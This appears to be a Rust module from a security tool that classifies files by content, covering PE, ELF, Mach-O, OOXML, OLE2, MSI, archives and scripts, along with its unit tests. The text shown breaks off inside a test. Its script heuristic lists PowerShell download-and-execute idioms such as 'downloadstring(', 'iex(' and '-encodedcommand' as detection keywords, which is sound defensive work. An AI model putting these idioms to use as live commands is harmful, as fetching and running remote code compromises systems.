//! File type and category from content, never from the name (EVENTS.md `fileinfo.type`).
//!
//! [`detect`] looks at the first [`HEAD_LEN`] bytes; the [`Sniffer`] watches the whole stream
//! (bounded state) for what the head cannot tell:
//! - zip member names anywhere in the archive (local file headers and central directory):
//!   `[Content_Types].xml` / `word/` / `xl/` / `ppt/` make OOXML (docx, xlsx, pptx), with
//!   `vbaProject.bin` docm / xlsm (a macro pptm is reported `pptx`: the type list has no pptm);
//!   `AndroidManifest.xml` / `classes.dex` make apk (checked before jar, apks also carry
//!   META-INF); `META-INF/MANIFEST.MF` or `*.class` make jar;
//! - the OLE2 directory, following its sector chain through the FAT (header -> DIFAT -> FAT
//!   sectors, all within what has streamed by, bounded), never reading past a directory sector
//!   into stream data: stream names `WordDocument`
//!   (doc), `Workbook` / `Book` (xls), `PowerPoint Document` (ppt), and msi from the root
//!   entry's CLSID or MSI's compressed stream names. An OLE2 file with none of these (msg,
//!   Thumbs.db, ...) is reported `doc`: unknown compound files stay in a dangerous category;
//! - the ISO 9660 `CD001` descriptor at 0x8001 (so [`HEAD_LEN`] stays small).
//!
//! PE is `dll` when IMAGE_FILE_DLL (0x2000) is set in the COFF characteristics, `exe`
//! otherwise (also plain MZ DOS programs). A lone Java class file (CAFEBABE with a Java
//! version) is `jar`; CAFEBABE with a small arch count is a Mach-O fat binary. Scripts (shebang,
//! PowerShell, VBScript, JScript/JavaScript, batch, HTA) are recognised by keyword heuristics
//! on text; HTML by its tags; text is valid UTF-8 without NULs. Categories: executable (exe,
//! dll, elf, macho, msi, apk, jar, lnk), document (pdf, doc, xls, ppt, OOXML, rtf), archive
//! (zip, rar, 7z, gzip, cab, iso), script, other (html, image, text, other).

use serde::Serialize;

/// How many leading bytes the sink keeps for detection.
pub const HEAD_LEN: usize = 4096;

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum FileType {
    Exe,
    Dll,
    Elf,
    Macho,
    Pdf,
    Zip,
    Rar,
    #[serde(rename = "7z")]
    SevenZ,
    Gzip,
    Cab,
    Msi,
    Doc,
    Xls,
    Ppt,
    Docx,
    Xlsx,
    Pptx,
    Docm,
    Xlsm,
    Rtf,
    Jar,
    Apk,
    Iso,
    Lnk,
    Script,
    Html,
    Image,
    Text,
    Other,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Category {
    Executable,
    Document,
    Archive,
    Script,
    Other,
}

impl Category {
    /// The first four categories count as dangerous.
    pub fn is_dangerous(self) -> bool {
        !matches!(self, Category::Other)
    }
}

impl FileType {
    /// The category a type belongs to.
    pub fn category(self) -> Category {
        use FileType::*;
        match self {
            Exe | Dll | Elf | Macho | Msi | Apk | Jar | Lnk => Category::Executable,
            Pdf | Doc | Xls | Ppt | Docx | Xlsx | Pptx | Docm | Xlsm | Rtf => Category::Document,
            Zip | Rar | SevenZ | Gzip | Cab | Iso => Category::Archive,
            Script => Category::Script,
            Html | Image | Text | Other => Category::Other,
        }
    }
}

const Z_CONTENT_TYPES: u16 = 1;
const Z_WORD: u16 = 2;
const Z_XL: u16 = 4;
const Z_PPT: u16 = 8;
const Z_VBA: u16 = 16;
const Z_MANIFEST: u16 = 32;
const Z_CLASS: u16 = 64;
const Z_ANDROID: u16 = 128;
const Z_DEX: u16 = 256;

const O_WORD: u8 = 1;
const O_XLS: u8 = 2;
const O_PPT: u8 = 4;
const O_MSI: u8 = 8;

/// Most bytes kept to finish a zip header split across pieces.
const ZIP_CARRY: usize = 512;
/// Leading bytes the sniffer keeps to decide what to watch.
const FIRST: usize = 64;
/// OLE2 header bytes (the DIFAT's first 109 FAT sector numbers end at 512).
const OLE_HDR: usize = 512;
/// Most bytes of FAT sectors kept to follow the directory chain.
const OLE_FAT_BYTES: usize = 8192;
/// Most directory sectors read.
const OLE_DIR_SECTORS: usize = 32;
/// Sector numbers at or above this are special (free, end of chain, FAT, DIFAT).
const OLE_MAXREG: u32 = 0xffff_fffa;
/// Zip headers are looked for in this many leading bytes at most.
const ZIP_SCAN_LIMIT: u64 = 1 << 30;

const OLE_MAGIC: &[u8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
const MSI_CLSID: [u8; 16] = [
    0x84, 0x10, 0x0c, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
];

#[derive(Default, Clone, Copy, PartialEq, Eq)]
enum Kind {
    #[default]
    Unknown,
    Zip,
    Ole,
    NotZip,
}

/// State kept while a file streams through, for what the first bytes cannot tell (zip member
/// names anywhere in the archive, OLE2 directory entries, the ISO descriptor).
#[derive(Default)]
pub struct Sniffer {
    kind: Kind,
    /// The first [`FIRST`] bytes of the file.
    first: Vec<u8>,
    zip_flags: u16,
    carry: Vec<u8>,
    ole: Option<Box<Ole>>,
    iso: [u8; 5],
    iso_seen: u8,
}

impl Sniffer {
    /// Sees `data`, which starts at byte `offset` of the file.
    pub fn feed(&mut self, offset: u64, data: &[u8]) {
        if data.is_empty() {
            return;
        }
        if (offset as usize) < FIRST && offset as usize == self.first.len() {
            let n = (FIRST - self.first.len()).min(data.len());
            self.first.extend_from_slice(&data[..n]);
        }
        if self.kind == Kind::Unknown {
            let f = &self.first[..];
            if f.len() >= 2 && f.starts_with(b"PK") {
                self.kind = Kind::Zip;
            } else if f.len() >= 0x34 && f.starts_with(OLE_MAGIC) {
                self.kind = Kind::Ole;
                self.ole = Some(Box::new(Ole {
                    hdr: self.first.clone(),
                    ..Ole::default()
                }));
            } else if (!OLE_MAGIC.starts_with(&f[..f.len().min(8)])
                && !b"PK".starts_with(&f[..f.len().min(2)]))
                || f.len() >= FIRST
                || offset as usize > f.len()
            {
                self.kind = Kind::NotZip;
            }
        }
        match self.kind {
            Kind::Zip | Kind::Unknown if offset < ZIP_SCAN_LIMIT => self.zip_feed(data),
            _ => {}
        }
        if let Some(ole) = self.ole.as_mut() {
            ole.feed(offset, data);
        }
        self.iso_feed(offset, data);
    }

    fn iso_feed(&mut self, offset: u64, data: &[u8]) {
        const AT: u64 = 0x8001;
        let end = offset.saturating_add(data.len() as u64);
        if self.iso_seen as usize >= self.iso.len() || end <= AT || offset >= AT + 5 {
            return;
        }
        for pos in offset.max(AT)..end.min(AT + 5) {
            let i = (pos - AT) as usize;
            if let (Some(slot), Some(b)) = (self.iso.get_mut(i), data.get((pos - offset) as usize))
            {
                *slot = *b;
                self.iso_seen = self.iso_seen.max(i as u8 + 1);
            }
        }
    }

    fn zip_feed(&mut self, data: &[u8]) {
        let mut join = Vec::new();
        if !self.carry.is_empty() {
            let need = ZIP_CARRY.min(data.len());
            join = std::mem::take(&mut self.carry);
            let carry_len = join.len();
            join.extend_from_slice(&data[..need]);
            self.zip_scan(&join, Some(carry_len));
        }
        let kept = std::mem::take(&mut self.carry);
        self.zip_scan(data, None);
        if self.carry.is_empty() {
            self.carry = kept;
        }
        if self.carry.is_empty() {
            // A signature split across pieces (possibly many tiny ones).
            let src = if !join.is_empty() && data.len() <= ZIP_CARRY {
                &join[..]
            } else {
                data
            };
            let tail = &src[src.len().saturating_sub(3)..];
            if let Some(p) = memchr::memchr(b'P', tail) {
                self.carry.extend_from_slice(&tail[p..]);
            }
        }
    }

    /// Looks for zip headers in `buf`; with `limit`, only those starting before it.
    fn zip_scan(&mut self, buf: &[u8], limit: Option<usize>) {
        for (sig, hl, nl_at) in [
            (&b"PK\x03\x04"[..], 30usize, 26usize),
            (&b"PK\x01\x02"[..], 46, 28),
        ] {
            for p in memchr::memmem::find_iter(buf, sig) {
                if limit.is_some_and(|l| p >= l) {
                    break;
                }
                let nlen = buf
                    .get(p + nl_at..p + nl_at + 2)
                    .map(|b| u16::from_le_bytes([b[0], b[1]]) as usize);
                let name = nlen.and_then(|n| buf.get(p + hl..p + hl + n.min(256)));
                match name {
                    Some(name) => self.zip_flags |= zip_name_flags(name),
                    None => {
                        if self.carry.is_empty() {
                            let rest = buf.get(p..).unwrap_or_default();
                            self.carry
                                .extend_from_slice(&rest[..rest.len().min(ZIP_CARRY)]);
                        }
                    }
                }
            }
        }
    }

    fn ole_result(&self, head: &[u8]) -> u8 {
        match &self.ole {
            Some(o) if o.hdr.len() >= OLE_HDR => o.flags | ole_dir_flags(&o.dir),
            _ => {
                // Not fed (or fed too little): read what the head holds the same way.
                let mut o = Ole::default();
                o.feed(0, head);
                o.flags | ole_dir_flags(&o.dir)
            }
        }
    }
}

/// Following an OLE2 compound file's directory chain as the file streams by. Only regions the
/// header and FAT name are copied: the header, the first FAT sectors, one directory sector at
/// a time. A sector that went by before it was known is not waited for (bounded, best effort).
#[derive(Default)]
struct Ole {
    hdr: Vec<u8>,
    shift: u32,
    /// (file offset, bytes) of the FAT sectors the header lists, bounded by [`OLE_FAT_BYTES`].
    fat: Vec<(u64, Vec<u8>)>,
    /// The directory sector being captured, its number and file offset.
    dir: Vec<u8>,
    dir_sect: u32,
    dir_at: Option<u64>,
    /// A finished directory sector whose FAT entry has not streamed by yet.
    pending: Option<u32>,
    dir_read: usize,
    flags: u8,
}

impl Ole {
    fn ssz(&self) -> usize {
        1usize << self.shift
    }

    fn feed(&mut self, offset: u64, data: &[u8]) {
        if self.hdr.len() < OLE_HDR {
            if !take(&mut self.hdr, 0, OLE_HDR, offset, data) {
                return;
            }
            self.header();
        }
        let ssz = self.ssz();
        let mut fat_done = false;
        for (at, buf) in self.fat.iter_mut() {
            if buf.len() < ssz && take(buf, *at, ssz, offset, data) {
                fat_done = true;
            }
        }
        if fat_done {
            self.advance();
        }
        while let Some(at) = self.dir_at {
            if !take(&mut self.dir, at, ssz, offset, data) {
                break;
            }
            self.flags |= ole_dir_flags(&self.dir);
            self.dir.clear();
            self.dir_at = None;
            self.dir_read += 1;
            self.pending = Some(self.dir_sect);
            self.advance();
        }
    }

    fn header(&mut self) {
        let h = &self.hdr;
        let (Some(shift), Some(dir), Some(nfat)) = (u16le(h, 0x1e), u32le(h, 0x30), u32le(h, 0x2c))
        else {
            return;
        };
        if !(7..=12).contains(&shift) {
            return;
        }
        self.shift = u32::from(shift);
        let max_fat = (OLE_FAT_BYTES >> self.shift).max(1);
        let n = (nfat as usize).min(109).min(max_fat);
        let mut fat = Vec::with_capacity(n);
        for k in 0..n {
            match u32le(h, 0x4c + 4 * k) {
                Some(s) if s < OLE_MAXREG => {
                    fat.push((sector_at(s, self.shift), Vec::new()));
                }
                _ => break,
            }
        }
        self.fat = fat;
        self.want_dir(dir);
    }

    fn want_dir(&mut self, sect: u32) {
        if sect < OLE_MAXREG && self.dir_read < OLE_DIR_SECTORS {
            self.dir_sect = sect;
            self.dir_at = Some(sector_at(sect, self.shift));
        }
    }

    /// Moves to the directory sector after `pending` once its FAT entry is known.
    fn advance(&mut self) {
        let Some(s) = self.pending else { return };
        let per = self.ssz() / 4;
        let entry = self
            .fat
            .get(s as usize / per)
            .filter(|(_, b)| b.len() >= self.ssz())
            .and_then(|(_, b)| u32le(b, (s as usize % per) * 4));
        if let Some(next) = entry {
            self.pending = None;
            self.want_dir(next);
        }
    }
}

fn sector_at(sect: u32, shift: u32) -> u64 {
    (u64::from(sect) + 1) << shift
}

/// Appends to `buf` (the region `[at, at + len)` of the file, filled in order) what `data`
/// (starting at file offset `offset`) holds of it; true when the region is complete.
fn take(buf: &mut Vec<u8>, at: u64, len: usize, offset: u64, data: &[u8]) -> bool {
    if buf.len() >= len {
        return true;
    }
    let want = at.saturating_add(buf.len() as u64);
    let end = offset.saturating_add(data.len() as u64);
    if offset > want || end <= want {
        return false;
    }
    let start = (want - offset) as usize;
    let n = (len - buf.len()).min(data.len().saturating_sub(start));
    if let Some(part) = data.get(start..start + n) {
        buf.extend_from_slice(part);
    }
    buf.len() >= len
}

fn zip_name_flags(name: &[u8]) -> u16 {
    let mut f = 0;
    if name == b"[Content_Types].xml" {
        f |= Z_CONTENT_TYPES;
    }
    if name.starts_with(b"word/") {
        f |= Z_WORD;
    }
    if name.starts_with(b"xl/") {
        f |= Z_XL;
    }
    if name.starts_with(b"ppt/") {
        f |= Z_PPT;
    }
    if name.ends_with(b"vbaProject.bin") {
        f |= Z_VBA;
    }
    if name.eq_ignore_ascii_case(b"META-INF/MANIFEST.MF") {
        f |= Z_MANIFEST;
    }
    if name.ends_with(b".class") {
        f |= Z_CLASS;
    }
    if name == b"AndroidManifest.xml" {
        f |= Z_ANDROID;
    }
    if name == b"classes.dex" {
        f |= Z_DEX;
    }
    f
}

fn ole_dir_flags(dir: &[u8]) -> u8 {
    dir.chunks_exact(128).fold(0, |f, e| f | ole_entry_flags(e))
}

/// Flags from one 128-byte OLE2 directory entry.
fn ole_entry_flags(e: &[u8]) -> u8 {
    let (Some(name), Some(nl)) = (e.get(..64), e.get(64..66)) else {
        return 0;
    };
    // Only storages, streams and the root (free entries may hold stale bytes).
    if !matches!(e.get(66), Some(1 | 2 | 5)) {
        return 0;
    }
    let nlen = (u16::from_le_bytes([nl[0], nl[1]]) as usize).min(64);
    let units: Vec<u16> = name[..nlen]
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .take_while(|u| *u != 0)
        .collect();
    let s = String::from_utf16_lossy(&units);
    let mut f = 0;
    match s.as_str() {
        "WordDocument" => f |= O_WORD,
        "Workbook" | "Book" => f |= O_XLS,
        "PowerPoint Document" => f |= O_PPT,
        _ => {}
    }
    // MSI stream names are packed into 0x3800..0x4840.
    if units.iter().any(|u| (0x3800..0x4840).contains(u)) {
        f |= O_MSI;
    }
    // Root entry (type 5) CLSID.
    if e.get(66) == Some(&5) && e.get(0x50..0x60) == Some(&MSI_CLSID[..]) {
        f |= O_MSI;
    }
    f
}

fn u16le(b: &[u8], at: usize) -> Option<u16> {
    b.get(at..at + 2).map(|x| u16::from_le_bytes([x[0], x[1]]))
}
fn u32le(b: &[u8], at: usize) -> Option<u32> {
    b.get(at..at + 4)
        .map(|x| u32::from_le_bytes([x[0], x[1], x[2], x[3]]))
}

/// Type and category of a file from its first bytes and what the sniffer saw.
pub fn detect(head: &[u8], sniff: &Sniffer) -> (FileType, Category) {
    let t = detect_type(head, sniff);
    (t, t.category())
}

fn detect_type(h: &[u8], sniff: &Sniffer) -> FileType {
    use FileType::*;
    if h.starts_with(b"MZ") {
        let pe = u32le(h, 0x3c).map(|o| o as usize);
        if let Some(o) = pe {
            if h.get(o..o + 4) == Some(b"PE\0\0") {
                let ch = u16le(h, o + 22).unwrap_or(0);
                return if ch & 0x2000 != 0 { Dll } else { Exe };
            }
        }
        return Exe;
    }
    if h.starts_with(b"\x7fELF") {
        return Elf;
    }
    let m4 = h.get(..4).unwrap_or_default();
    if [
        b"\xfe\xed\xfa\xce",
        b"\xfe\xed\xfa\xcf",
        b"\xce\xfa\xed\xfe",
        b"\xcf\xfa\xed\xfe",
    ]
    .iter()
    .any(|m| m4 == *m)
    {
        return Macho;
    }
    if m4 == b"\xca\xfe\xba\xbe" || m4 == b"\xca\xfe\xba\xbf" {
        let n = h
            .get(4..8)
            .map(|b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
            .unwrap_or(0);
        return if n > 0 && n < 30 { Macho } else { Jar };
    }
    if h.starts_with(b"PK\x03\x04") || h.starts_with(b"PK\x05\x06") || h.starts_with(b"PK\x07\x08")
    {
        let f = sniff.zip_flags;
        return if f & (Z_ANDROID | Z_DEX) != 0 {
            Apk
        } else if f & Z_WORD != 0 && f & (Z_CONTENT_TYPES | Z_WORD) != 0 {
            if f & Z_VBA != 0 {
                Docm
            } else {
                Docx
            }
        } else if f & Z_XL != 0 {
            if f & Z_VBA != 0 {
                Xlsm
            } else {
                Xlsx
            }
        } else if f & Z_PPT != 0 {
            Pptx
        } else if f & (Z_MANIFEST | Z_CLASS) != 0 {
            Jar
        } else {
            Zip
        };
    }
    if h.starts_with(OLE_MAGIC) {
        let f = sniff.ole_result(h);
        // Office stream names are specific; MSI's packed names come last.
        return if f & O_WORD != 0 {
            Doc
        } else if f & O_XLS != 0 {
            Xls
        } else if f & O_PPT != 0 {
            Ppt
        } else if f & O_MSI != 0 {
            Msi
        } else {
            Doc
        };
    }
    if memchr::memmem::find(h.get(..1024).unwrap_or(h), b"%PDF-").is_some() {
        return Pdf;
    }
    if h.starts_with(b"Rar!\x1a\x07") {
        return Rar;
    }
    if h.starts_with(b"7z\xbc\xaf\x27\x1c") {
        return SevenZ;
    }
    if h.starts_with(b"\x1f\x8b") {
        return Gzip;
    }
    if h.starts_with(b"MSCF\0\0\0\0") {
        return Cab;
    }
    if h.starts_with(b"{\\rtf") {
        return Rtf;
    }
    if h.starts_with(b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46") {
        return Lnk;
    }
    if sniff.iso_seen == 5 && &sniff.iso == b"CD001" {
        return Iso;
    }
    if h.starts_with(b"\x89PNG\r\n\x1a\n")
        || h.starts_with(b"\xff\xd8\xff")
        || h.starts_with(b"GIF87a")
        || h.starts_with(b"GIF89a")
        || (h.starts_with(b"RIFF") && h.get(8..12) == Some(b"WEBP"))
        || (h.starts_with(b"BM") && h.get(6..10) == Some(b"\0\0\0\0") && h.len() >= 26)
        || (h.starts_with(b"\0\0\x01\0")
            && matches!(h.get(4), Some(1..=64))
            && h.get(5) == Some(&0)
            && h.get(9) == Some(&0))
    {
        return Image;
    }
    text_type(h)
}

/// Script / HTML / text / other for what no magic number claimed.
fn text_type(h: &[u8]) -> FileType {
    use FileType::*;
    let body = h.strip_prefix(b"\xef\xbb\xbf").unwrap_or(h);
    if body.is_empty() || body.contains(&0) {
        return Other;
    }
    let valid = match std::str::from_utf8(body) {
        Ok(_) => true,
        // A multi-byte character cut by the head's end is fine.
        Err(e) => e.error_len().is_none() && body.len() - e.valid_up_to() < 4,
    };
    if !valid {
        return Other;
    }
    if body.starts_with(b"#!") {
        return Script;
    }
    let low = body.to_ascii_lowercase();
    let has = |s: &str| memchr::memmem::find(&low, s.as_bytes()).is_some();
    if has("<hta:application") {
        return Script;
    }
    let trimmed = low
        .iter()
        .position(|b| !b.is_ascii_whitespace())
        .map_or(&low[..], |p| &low[p..]);
    if trimmed.starts_with(b"@echo off") {
        return Script;
    }
    let html = trimmed.starts_with(b"<")
        && (has("<html") || has("<!doctype html") || has("<head") || has("<body"));
    if html {
        return Html;
    }
    let ps = [
        "invoke-expression",
        "iex(",
        "new-object ",
        "-encodedcommand",
        "[system.",
        "$env:",
        "write-host",
        "set-executionpolicy",
        "downloadstring(",
        "[convert]::",
        "$psversiontable",
        "param(",
    ];
    let vbs = [
        "createobject(",
        "wscript.",
        "on error resume next",
        "end sub",
        "end function",
        "dim ",
        "msgbox ",
    ];
    let js = [
        "function(",
        "function ",
        "var ",
        "eval(",
        "activexobject",
        "document.write",
        "window.",
        "=>",
        "new activexobject",
        "let ",
        "const ",
        "});",
        "document.",
        "prototype.",
    ];
    let bat = [
        "\nset ",
        "\ngoto ",
        "\nrem ",
        "\necho ",
        "%~dp0",
        "\ncall ",
        "\nif exist ",
        "cmd /c",
        "\nstart ",
    ];
    let score = |keys: &[&str]| keys.iter().filter(|k| has(k)).count();
    let (p, v, j, b) = (score(&ps), score(&vbs), score(&js), score(&bat));
    if p >= 2
        || v >= 2
        || b >= 2
        || (j >= 2
            && (has("eval(")
                || has("activexobject")
                || has("wscript")
                || has("function(")
                || has("});")
                || j >= 3))
    {
        return Script;
    }
    Text
}

#[cfg(test)]
mod tests {
    use super::*;

    fn det(b: &[u8]) -> FileType {
        det_split(b, usize::MAX)
    }

    /// Streams `b` through a Sniffer in `step`-byte pieces, like the sink does.
    fn det_split(b: &[u8], step: usize) -> FileType {
        let mut s = Sniffer::default();
        let mut off = 0u64;
        for piece in b.chunks(step.max(1)) {
            s.feed(off, piece);
            off += piece.len() as u64;
        }
        detect(&b[..b.len().min(HEAD_LEN)], &s).0
    }

    fn pe(characteristics: u16) -> Vec<u8> {
        let mut v = vec![0u8; 512];
        v[..2].copy_from_slice(b"MZ");
        v[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
        v[0x80..0x84].copy_from_slice(b"PE\0\0");
        v[0x84..0x86].copy_from_slice(&0x14cu16.to_le_bytes());
        v[0x96..0x98].copy_from_slice(&characteristics.to_le_bytes());
        v
    }

    fn zip(names: &[&str]) -> Vec<u8> {
        let mut v = Vec::new();
        for n in names {
            v.extend_from_slice(b"PK\x03\x04\x14\0\0\0\0\0");
            v.extend_from_slice(&[0u8; 16]);
            v.extend_from_slice(&(n.len() as u16).to_le_bytes());
            v.extend_from_slice(&0u16.to_le_bytes());
            v.extend_from_slice(n.as_bytes());
            v.extend_from_slice(&[0x55u8; 3000]); // member data
        }
        v.extend_from_slice(b"PK\x05\x06");
        v.extend_from_slice(&[0u8; 18]);
        v
    }

    fn ole(names: &[&str], clsid: Option<[u8; 16]>, dir_sector: u32) -> Vec<u8> {
        let mut v = vec![0u8; 512 * (dir_sector as usize + 2)];
        v[..8].copy_from_slice(OLE_MAGIC);
        v[0x1e..0x20].copy_from_slice(&9u16.to_le_bytes());
        v[0x30..0x34].copy_from_slice(&dir_sector.to_le_bytes());
        let base = 512 * (dir_sector as usize + 1);
        let mut all = vec!["Root Entry"];
        all.extend_from_slice(names);
        for (k, n) in all.iter().enumerate().take(4) {
            let e = base + k * 128;
            let u: Vec<u16> = n.encode_utf16().collect();
            for (i, c) in u.iter().enumerate() {
                v[e + 2 * i..e + 2 * i + 2].copy_from_slice(&c.to_le_bytes());
            }
            v[e + 64..e + 66].copy_from_slice(&(((u.len() + 1) * 2) as u16).to_le_bytes());
            v[e + 66] = if k == 0 { 5 } else { 2 };
            if k == 0 {
                if let Some(c) = clsid {
                    v[e + 0x50..e + 0x60].copy_from_slice(&c);
                }
            }
        }
        v
    }

    #[test]
    fn executables() {
        assert_eq!(det(&pe(0x0102)), FileType::Exe);
        assert_eq!(det(&pe(0x2102)), FileType::Dll);
        assert_eq!(det(b"MZ\x90\0 tiny dos"), FileType::Exe);
        assert_eq!(det(b"\x7fELF\x02\x01\x01\0\0\0\0\0"), FileType::Elf);
        assert_eq!(det(b"\xcf\xfa\xed\xfe\x07\0\0\x01"), FileType::Macho);
        assert_eq!(
            det(b"\xca\xfe\xba\xbe\0\0\0\x02\0\0\0\x07"),
            FileType::Macho
        );
        assert_eq!(det(b"\xca\xfe\xba\xbe\0\0\0\x34\0\x10"), FileType::Jar);
        let mut lnk = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46".to_vec();
        lnk.extend_from_slice(&[0u8; 60]);
        assert_eq!(det(&lnk), FileType::Lnk);
        assert_eq!(FileType::Dll.category(), Category::Executable);
        assert!(Category::Executable.is_dangerous());
        assert!(!Category::Other.is_dangerous());
    }

    #[test]
    fn zips_by_member_names_any_split() {
        let cases: [(&[&str], FileType); 8] = [
            (
                &["[Content_Types].xml", "_rels/.rels", "word/document.xml"],
                FileType::Docx,
            ),
            (
                &[
                    "[Content_Types].xml",
                    "word/document.xml",
                    "word/vbaProject.bin",
                ],
                FileType::Docm,
            ),
            (&["[Content_Types].xml", "xl/workbook.xml"], FileType::Xlsx),
            (
                &[
                    "[Content_Types].xml",
                    "xl/workbook.xml",
                    "xl/vbaProject.bin",
                ],
                FileType::Xlsm,
            ),
            (
                &["[Content_Types].xml", "ppt/presentation.xml"],
                FileType::Pptx,
            ),
            (&["META-INF/MANIFEST.MF", "a/B.class"], FileType::Jar),
            (
                &["AndroidManifest.xml", "META-INF/MANIFEST.MF", "classes.dex"],
                FileType::Apk,
            ),
            (&["readme.txt", "setup.exe"], FileType::Zip),
        ];
        for (names, want) in cases {
            let z = zip(names);
            for step in [1, 2, 3, 29, 31, 1000, usize::MAX] {
                assert_eq!(det_split(&z, step), want, "{names:?} step {step}");
            }
            assert_eq!(
                want.category(),
                if want == FileType::Zip {
                    Category::Archive
                } else {
                    want.category()
                }
            );
        }
        assert_eq!(FileType::Docx.category(), Category::Document);
    }

    #[test]
    fn ole2_by_directory() {
        assert_eq!(
            det(&ole(&["WordDocument", "1Table"], None, 1)),
            FileType::Doc
        );
        assert_eq!(det(&ole(&["Workbook"], None, 20)), FileType::Xls);
        assert_eq!(det(&ole(&["Book"], None, 3)), FileType::Xls);
        assert_eq!(
            det_split(&ole(&["PowerPoint Document"], None, 40), 100),
            FileType::Ppt
        );
        assert_eq!(
            det(&ole(&["\u{4840}\u{3b3f}"], Some(MSI_CLSID), 2)),
            FileType::Msi
        );
        assert_eq!(det(&ole(&["Whatever"], None, 1)), FileType::Doc);
        // Directory past the end of what arrived.
        let mut short = ole(&["Workbook"], None, 30);
        short.truncate(2048);
        assert_eq!(det(&short), FileType::Doc);
    }

    /// A 128-byte directory entry.
    fn dir_entry(name: &str, typ: u8) -> Vec<u8> {
        let mut e = vec![0u8; 128];
        let u: Vec<u16> = name.encode_utf16().collect();
        for (i, c) in u.iter().enumerate().take(31) {
            e[2 * i..2 * i + 2].copy_from_slice(&c.to_le_bytes());
        }
        e[64..66].copy_from_slice(&(((u.len().min(31) + 1) * 2) as u16).to_le_bytes());
        e[66] = typ;
        e
    }

    /// A v3 compound file: sector 0 FAT, directory sectors `dir_chain` (in chain order) holding
    /// `dirs` (4 entries each), every other sector up to `nsec` stream data full of
    /// MSI-looking directory entries.
    fn ole_chain(dirs: &[&str], dir_chain: &[u32], nsec: u32) -> Vec<u8> {
        let mut v = vec![0u8; 512 * (nsec as usize + 1)];
        v[..8].copy_from_slice(OLE_MAGIC);
        v[0x1e..0x20].copy_from_slice(&9u16.to_le_bytes());
        v[0x2c..0x30].copy_from_slice(&1u32.to_le_bytes());
        v[0x30..0x34].copy_from_slice(&dir_chain[0].to_le_bytes());
        for k in 0..109 {
            let x: u32 = if k == 0 { 0 } else { 0xffff_ffff };
            v[0x4c + 4 * k..0x50 + 4 * k].copy_from_slice(&x.to_le_bytes());
        }
        // Stream sectors: MSI-packed names, stream type.
        let msi = dir_entry("\u{4840}\u{3b3f}\u{43f2}", 2);
        for sec in 1..nsec {
            for k in 0..4 {
                let at = 512 * (sec as usize + 1) + k * 128;
                v[at..at + 128].copy_from_slice(&msi);
            }
        }
        let mut fat = vec![0xffu8; 512];
        fat[..4].copy_from_slice(&0xffff_fffdu32.to_le_bytes());
        for (i, &d) in dir_chain.iter().enumerate() {
            let next = dir_chain.get(i + 1).copied().unwrap_or(0xffff_fffe);
            fat[4 * d as usize..4 * d as usize + 4].copy_from_slice(&next.to_le_bytes());
            let at = 512 * (d as usize + 1);
            v[at..at + 512].fill(0);
            for (k, n) in dirs.iter().skip(4 * i).take(4).enumerate() {
                let typ = if i == 0 && k == 0 { 5 } else { 2 };
                v[at + k * 128..at + k * 128 + 128].copy_from_slice(&dir_entry(n, typ));
            }
        }
        v[512..1024].copy_from_slice(&fat);
        v
    }

    #[test]
    fn ole2_directory_chain_not_stream_data() {
        // One directory sector, then stream data that looks like MSI directory entries: a
        // compound file with unknown streams (an Outlook .msg) stays doc, never msi.
        let msg = ole_chain(&["Root Entry", "__substg1.0_0037001F"], &[1], 12);
        for step in [1, 7, 100, 512, usize::MAX] {
            assert_eq!(det_split(&msg, step), FileType::Doc, "step {step}");
        }
        // A .doc whose directory is one sector followed by MSI-looking stream data.
        let doc = ole_chain(&["Root Entry", "WordDocument", "1Table"], &[1], 12);
        assert_eq!(det(&doc), FileType::Doc);
        // The directory continues, through the FAT, in a later non-adjacent sector.
        let names = ["Root Entry", "a", "b", "c", "Workbook"];
        let xls = ole_chain(&names, &[1, 6], 12);
        for step in [1, 13, 512, usize::MAX] {
            assert_eq!(det_split(&xls, step), FileType::Xls, "step {step}");
        }
        // Chain order is not file order: sector 6 first, then 2.
        let xls = ole_chain(&names, &[6, 2], 12);
        assert_eq!(det(&xls), FileType::Xls);
        // A real MSI (root CLSID) in a one-sector directory is still msi.
        let mut msi = ole_chain(&["Root Entry", "\u{4840}\u{3b3f}"], &[1], 4);
        msi[1024 + 0x50..1024 + 0x60].copy_from_slice(&MSI_CLSID);
        assert_eq!(det(&msi), FileType::Msi);
        // A chain that loops on itself ends (bounded).
        let mut looped = ole_chain(&names, &[1, 6], 12);
        looped[512 + 4 * 6..512 + 4 * 6 + 4].copy_from_slice(&1u32.to_le_bytes());
        assert_eq!(det(&looped), FileType::Xls);
    }

    #[test]
    fn archives_documents_images() {
        assert_eq!(det(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), FileType::Pdf);
        assert_eq!(det(b"Rar!\x1a\x07\x01\0"), FileType::Rar);
        assert_eq!(det(b"7z\xbc\xaf\x27\x1c\0\x04"), FileType::SevenZ);
        assert_eq!(det(b"\x1f\x8b\x08\0\0\0\0\0"), FileType::Gzip);
        assert_eq!(det(b"MSCF\0\0\0\0\x10\0\0\0"), FileType::Cab);
        assert_eq!(det(b"{\\rtf1\\ansi hello}"), FileType::Rtf);
        assert_eq!(det(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR"), FileType::Image);
        assert_eq!(det(b"\xff\xd8\xff\xe0\0\x10JFIF"), FileType::Image);
        assert_eq!(det(b"GIF89a\x01\0\x01\0"), FileType::Image);
        assert_eq!(det(b"RIFF\x24\0\0\0WEBPVP8 "), FileType::Image);
        let mut bmp = b"BM\x3e\0\0\0\0\0\0\0\x36\0\0\0".to_vec();
        bmp.extend_from_slice(&[0u8; 40]);
        assert_eq!(det(&bmp), FileType::Image);
        assert_eq!(det(b"\0\0\x01\0\x01\0\x10\x10\0\0\x01\0"), FileType::Image);
        let mut iso = vec![0u8; 0x9000];
        iso[0x8001..0x8006].copy_from_slice(b"CD001");
        assert_eq!(det_split(&iso, 4096), FileType::Iso);
